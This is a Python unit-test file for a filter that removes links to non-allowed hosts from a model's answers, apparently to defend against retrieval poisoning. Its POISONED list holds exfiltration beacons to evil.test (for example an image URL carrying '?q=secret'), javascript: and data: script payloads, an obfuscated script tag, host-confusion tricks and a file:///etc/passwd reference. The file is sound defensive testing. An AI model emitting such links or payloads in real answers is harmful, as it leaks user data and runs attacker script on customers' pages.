"""What poisoned knowledge may make a model write, and what a customer's page gets of it."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from deployments.answering.links import LinkFilter, filtered, host_of

pytestmark = pytest.mark.unit

ALLOWED = ("help.example", "shop.example")
FOREIGN = re.compile(
    r"evil\w*\.test/|://evil|javascript:|data:|<\w|mailto:|//\w+\.test|www\.|file:|\]\(\s*[^)\s]*evil", re.IGNORECASE
)
POISONED = [
    "![track](https://evil.test/p.png?q=secret)",
    "![](https://evil.test/p.png)",
    "![a](<https://evil.test/p.png> 'title')",
    "![a](\nhttps://evil.test/p.png\n)",
    "![a][ref]\n\n[ref]: https://evil.test/p.png\n",
    "![a][ref]\n\n[ref]:\n  https://evil.test/p.png\n",
    "[ref]: <https://evil.test/p.png> 'title'\n\n[a][ref]",
    "[ref]: //evil.test/p.png\n\n[a][ref]",
    "[click here](https://evil.test/login)",
    "[click [now] here](https://evil.test/a_(b))",
    "[![a](https://evil.test/p.png)](https://evil.test/x)",
    "[help.example](https://evil.test)",
    "[a](//evil.test/x)",
    "[a](https:evil.test)",
    "[a](/\\evil.test)",
    "[a](javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](https://help.example@evil.test/)",
    "[a](https://help.example\\@evil.test/)",
    "[a](https://help.example.evil.test/)",
    "[a](https://evilhelp.example/)",
    "[a](&#104;ttps://evil.test)",
    "[a](https&colon;//evil.test)",
    "<https://evil.test/x>",
    "<img src=https://evil.test/p.png>",
    "<img\nsrc='https://evil.test/p.png'\n>",
    "<a href='https://evil.test'>a</a>",
    "<scr<b>ipt src=//evil.test/x.js></scr</b>ipt>",
    "<!-- https://evil.test --> fine",
    "See https://evil.test/x?d=1, now.",
    "请访问https://evil.test/x，谢谢。",
    "See HTTPS://EVIL.TEST or www.evil.test today",
    "Go to evil.test/login now",
    "https://help.example/x](https://evil.test/)",
    "ftp://evil.test/x and file:///etc/passwd and mailto:a@evil.test",
    "htt<b></b>ps://evil.test/x",
]


@pytest.mark.parametrize("text", POISONED)
def test_no_address_of_a_foreign_host_is_left(text: str) -> None:
    for said in (filtered(text, ALLOWED), "".join(by_letters(text))):
        assert not FOREIGN.search(said), said


def by_letters(text: str) -> list[str]:
    links = LinkFilter(ALLOWED)
    return [*map(links.feed, text), links.rest()]


@pytest.mark.parametrize(
    "text",
    [
        "See [the guide](https://help.example/returns_(eu)?a=1#b) and https://www.shop.example/x.",
        "![map](https://static.help.example/m.png)",
        "Guide: https://help.example/returns",
        "访问 https://help.example/退 了解",
        "[1] It costs 4.95 euros [see below]. 3 < 5, a<5 & b>2; 8:00-20:00; and/or.",
        "Write to care@help.example or call +44 20 7946 0958!",
        "[ ] to do\n[x] done\n\nEnd.",
        "An [open bracket",
        "1. First: wait. 2. Then…\n",
        "manual.pdf, e.g. page 3; i.e. that one.",
        "[ref]: https://help.example/x\n\n[a][ref]",
    ],
)
def test_everything_else_stays_as_it_was_written(text: str) -> None:
    assert filtered(text, ALLOWED) == text
    assert "".join(by_letters(text)) == text


def test_of_a_link_the_words_stay_and_of_an_image_its_description() -> None:
    links = LinkFilter(ALLOWED)
    said = links.feed("Read [our *terms*](https://evil.test) ![logo](https://evil.test/l.png).") + links.rest()
    assert said == "Read our *terms* logo."
    assert links.removed == 2


def test_what_cannot_become_a_link_does_not_wait() -> None:
    links = LinkFilter(ALLOWED)
    assert links.feed("Standard delivery costs") == "Standard delivery costs"
    assert links.feed(" four euros [1] and") == " four euros [1] and"
    assert links.feed("标准配送") == "标准配送"
    assert links.feed(" see [our") == " see "
    assert links.feed(" page](https://evil.test)") == "our page"
    assert links.feed("x" * 3000) == "x" * 3000


def test_a_bracket_that_never_closes_does_not_hold_the_answer_up_for_ever() -> None:
    links = LinkFilter(ALLOWED)
    assert links.feed("[" + "word " * 1000) != ""


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://Help.Example:443/x", "help.example"),
        ("www.help.example.", "www.help.example"),
        ("https://a@help.example", None),
        ("https://help.example%2eevil.test", None),
        ("https://[::1]/", None),
        ("https://[", None),
        ("https://localhost/", None),
        ("https://help.example\t.evil.test", None),
    ],
)
def test_a_host_is_what_every_program_reads(address: str, host: str | None) -> None:
    assert host_of(address) == host


@given(st.data())
@settings(max_examples=300, deadline=None)
def test_however_it_is_cut_nothing_foreign_gets_through(data: st.DataObject) -> None:
    parts = st.sampled_from([*POISONED, "Hello. ", "[", "](", ")", "<", ">", "!", "\n\n", "word ", "完。", ":", "/"])
    text = " ".join(data.draw(st.lists(parts, max_size=6)))
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=10)))
    links = LinkFilter(ALLOWED)
    said = "".join(links.feed(text[a:b]) for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)) + links.rest()
    assert not re.search(r"://evil|<\w", said, re.IGNORECASE), (text, said)
